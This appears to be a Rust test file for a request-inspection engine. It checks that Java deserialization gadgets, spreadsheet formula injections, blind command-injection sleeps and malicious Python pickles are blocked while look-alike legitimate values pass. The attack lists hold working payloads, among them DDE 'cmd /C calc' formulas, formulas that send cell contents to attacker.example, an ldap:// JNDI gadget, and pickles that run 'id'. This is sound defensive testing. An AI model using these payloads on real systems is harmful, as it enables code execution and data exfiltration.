//! Java type gadgets, Python pickles, spreadsheet formulas and blind shell delays, each
//! next to the look-alike legitimate values that motivated its shape (stack traces, JSON-LD
//! types, base64 tokens, everyday formulas, prose about sleep).

use rampart_detect::{Budget, Engine, Field, FieldKind, Findings, Location, Policy};

fn scan(name: &str, kind: FieldKind, value: &str) -> Findings {
    let mut budget = Budget::default();
    Engine::builtin().inspect(
        [Field::new(
            Location::new("json", name),
            kind,
            value.as_bytes(),
        )],
        &Policy::default(),
        &mut budget,
    )
}

/// Each attack must be blocked by a rule of `class`; each legitimate value must pass.
fn table(class: &str, name: &str, kind: FieldKind, attacks: &[&str], legit: &[&str]) {
    let threshold = Policy::default().threshold();
    for a in attacks {
        let f = scan(name, kind, a);
        assert!(
            f.blocks(threshold) && f.hits.iter().any(|h| h.class == class),
            "{class}: missed {kind} {name} {a:?}: {:?}",
            f.hits
        );
    }
    for l in legit {
        let f = scan(name, kind, l);
        assert!(
            !f.blocks(threshold),
            "{class}: flagged {kind} {name} {l:?}: {:?}",
            f.hits
        );
    }
}

const B: FieldKind = FieldKind::BodyValue;
const Q: FieldKind = FieldKind::QueryValue;

#[test]
fn java_classes_of_exploits_but_not_exceptions_in_stack_traces() {
    for kind in [Q, B] {
        table(
            "java",
            "/v",
            kind,
            &[
                "java.lang.Runtime",
                "new java.io.FileOutputStream('/tmp/x')",
                "java.lang.ProcessBuilder",
                "java.lang.Class.forName",
                "java.net.URLClassLoader",
                "T(java.lang.Thread).sleep(5000)",
                "java.util.concurrent.Executors",
            ],
            &[
                "java.lang.NullPointerException at com.example.OrderService.create(OrderService.java:88)",
                "at java.lang.Thread.run(Thread.java:833)",
                "java.io.IOException: Broken pipe",
                "java.net.SocketTimeoutException: Read timed out",
                "java.util.concurrent.TimeoutException",
                "java.lang.OutOfMemoryError: Java heap space",
                "java.util.zip.ZipException: invalid entry size",
            ],
        );
    }
}

#[test]
fn polymorphic_type_keys_naming_jvm_classes() {
    // As JSON text inside a value (a string field, a query parameter).
    table(
        "java",
        "/v",
        Q,
        &[
            r#"{"@type":"java.net.Inet4Address","val":"x.dnslog.example"}"#,
            r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}"#,
            r#"{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;"}"#,
            r#"{"@class": "ch.qos.logback.core.db.DriverManagerConnectionSource"}"#,
            r#"{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory"}"#,
        ],
        &[
            r#"{"@type":"Person","name":"Ann"}"#,
            r#"{"@type":"type.googleapis.com/google.protobuf.Duration","value":"1s"}"#,
            r#"{"@type":"https://schema.org/Product"}"#,
            r#"{"@context":"https://schema.org","@type":"Organization"}"#,
        ],
    );
    // As the value of a parsed @type key.
    table(
        "java",
        "/a/@type",
        B,
        &[
            "com.zaxxer.hikari.HikariConfig",
            "[com.sun.rowset.JdbcRowSetImpl",
            "java.lang.AutoCloseable",
        ],
        &[
            "Person",
            "type.googleapis.com/google.rpc.ErrorInfo",
            "Event",
        ],
    );
    // The same class names under other keys are no type key.
    table(
        "java",
        "/a/package",
        B,
        &[],
        &["com.zaxxer.hikari", "org.apache.kafka", "ch.qos.logback"],
    );
}

#[test]
fn spreadsheet_formulas_that_run_programs_or_send_cells_away() {
    table(
        "formula",
        "/v",
        B,
        &[
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "+cmd|'/C notepad'!A0",
            "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
            "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")",
            "=WEBSERVICE(CONCATENATE(\"http://attacker.example/?\",A1,B1))",
            "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A2),\"//a\")",
            "=IMAGE(\"http://attacker.example/p.png?d=\"&C3)",
        ],
        &[
            "=SUM(A1:A10)",
            "=AVERAGE(B2:B20)*1.2",
            "=HYPERLINK(\"https://example.com\",\"Docs\")",
            "=IMPORTXML(\"https://example.com\",\"//title\")",
            "='Sheet 1'!A1",
            "=IF(A1>0,\"yes\",\"no\")",
            "+1 (555) 010-9999",
            "-20% off | 'summer'! sale",
            "yes | 'no'!",
            "Pipe | 'quoted'! in prose",
        ],
    );
}

#[test]
fn blind_delays_between_separators_and_traceback_frames() {
    table(
        "cmdi",
        "/v",
        Q,
        &[
            "x' || sleep 5 || '",
            "x'; sleep 5; '",
            "a; sleep 5; b",
            "|| sleep 5 ||",
            "$(sleep 5)",
            "; file /etc/passwd, line 1",
            "file /etc/passwd",
        ],
        &[
            "Sleep 5 | Work 8",
            "sleep 5 hours; then eat",
            "I sleep 5; she sleeps 9",
            "Sleep: 5; Work: 8",
            "File \"/usr/lib/python3.11/site-packages/requests/api.py\", line 59, in request",
            "File \"/app/main.py\", line 12, in <module>",
        ],
    );
}

#[test]
fn python_pickles_in_base64_or_protocol_zero() {
    for kind in [Q, B] {
        table(
            "code",
            "/v",
            kind,
            &[
                // protocol 2: posix.system('id')
                "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
                // protocol 4 (FRAME), as a cookie-style token after a name
                "session=gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
                "cos\nsystem\n(S'id'\ntR.",
                "(cposix\nsystem\np0\n(S'sleep 5'\np1\ntp2\nRp3\n.",
                "csubprocess\ncheck_output\n(S'id'\ntR.",
            ],
            &[
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.gASVabcdefghijk",
                "dGhpcyBpcyBhIHRlc3QgZ0FKag==",
                "aGVsbG8gd29ybGQ=",
                "Chaos\nsystems are hard",
                "cos\nsin\ntan",
                "The gAJj prefix marks a protocol 2 pickle",
            ],
        );
    }
}
